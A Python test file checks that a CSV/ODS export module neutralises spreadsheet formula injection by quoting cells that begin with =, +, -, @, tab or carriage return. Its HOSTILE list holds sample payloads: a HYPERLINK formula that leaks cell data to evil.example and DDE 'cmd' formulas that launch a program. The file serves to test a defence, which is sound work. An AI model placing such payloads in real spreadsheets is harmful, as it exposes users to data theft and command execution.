"""ndx.exports: hostile cells come back from CSV (csv module) and ODS (tablib) as text, never
as a formula."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
import tablib

from ndx.exports import CONTENT_TYPES, csv_bytes, csv_text, export_table, ods_bytes, safe_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["title", "supplier", "price"]


def _is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not safe_cell(cell) == cell


@pytest.mark.parametrize("value", HOSTILE)
def test_each_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value,expected",
    [
        ("Payroll service", "Payroll service"),
        ("-12.50", "-12.50"),  # a plain (negative) number is not a formula
        ("+44", "+44"),
        ("1,234.00", "1,234.00"),
        ("-", "'-"),
        ("", ""),
        (None, ""),
        (Decimal("-3.20"), "-3.20"),
        (7, "7"),
        ("'=already quoted", "'=already quoted"),
        ("a=b", "a=b"),
    ],
)
def test_ordinary_values_are_left_alone(value, expected):
    assert safe_cell(value) == expected


def test_csv_read_back_with_the_csv_module():
    rows = [[value, value, "12.00"] for value in HOSTILE]
    text = csv_bytes(rows, headers=HEADERS).decode("utf-8")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == HEADERS
    assert [r[0] for r in read[1:]] == ["'" + v for v in HOSTILE]
    assert not any(_is_formula(cell) for r in read for cell in r)
    assert all(cell[0] not in "=+-@\t\r" for r in read[1:] for cell in r[:2])


def test_a_hostile_header_is_neutralised_too():
    read = list(csv.reader(io.StringIO(csv_text([], headers=["=1+1"]), newline="")))
    assert read == [["'=1+1"]]


def test_ods_read_back_with_tablib_and_every_cell_is_a_text_cell():
    rows = [[value, "Supplier", "-12.50"] for value in HOSTILE]
    content = ods_bytes(rows, headers=HEADERS, title="Shortlist")
    data = tablib.Dataset().load(content, format="ods")
    assert data.headers == HEADERS
    # XML turns a carriage return into a line feed; the quote in front is what matters.
    assert [r[0] for r in data] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert [r[2] for r in data] == ["-12.50"] * len(HOSTILE)
    with zipfile.ZipFile(io.BytesIO(content)) as ods:
        xml = ods.read("content.xml").decode()
    assert 'office:value-type="float"' not in xml
    assert "table:formula" not in xml


def test_export_table_dispatches_and_refuses_unknown_formats():
    assert export_table([["=1"]], headers=["a"], fmt="csv") == b"a\r\n'=1\r\n"
    assert export_table([["=1"]], headers=["a"], fmt="ods").startswith(b"PK")
    assert set(CONTENT_TYPES) == {"csv", "ods"}
    with pytest.raises(ValueError):
        export_table([], headers=["a"], fmt="xlsx")


@pytest.mark.parametrize("terminator", ["\r\n", "\n"])
def test_cells_with_line_breaks_survive_any_line_terminator(terminator):
    rows = [["\r=1+1", "a\nb", "x"], ["plain", "-3.50", "y"]]
    text = csv_text(rows, headers=["a", "b", "c"], lineterminator=terminator)
    assert text.endswith(terminator) and not text.endswith("\r\n" + terminator)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["a", "b", "c"], ["'\r=1+1", "a\nb", "x"], ["plain", "-3.50", "y"]]
